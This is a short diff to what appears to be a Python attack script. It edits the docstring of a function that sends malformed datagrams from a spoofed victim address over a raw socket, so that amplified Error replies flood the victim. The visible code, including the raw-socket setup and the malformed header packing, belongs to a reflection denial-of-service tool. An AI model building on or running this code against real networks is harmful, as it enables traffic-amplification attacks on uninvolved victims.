@@ -112,7 +112,7 @@ def reflect(target, count, victim, spoof_src):
 
 
 def malformed_reflect(target, count, victim):
-    """A 16-byte datagram whose common header claims more than it carries (an Error of 64 bytes, 4 times
+    """A 12-byte datagram whose common header claims more than it carries (an Error of 72 bytes, 6 times
     its size answers it), from the victim's address, COUNT times."""
     raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     bad = struct.pack("!I", MAGIC) + struct.pack("!BBHHBB", 1, 1, 9, NSLPID, DATA, S_FLAG)
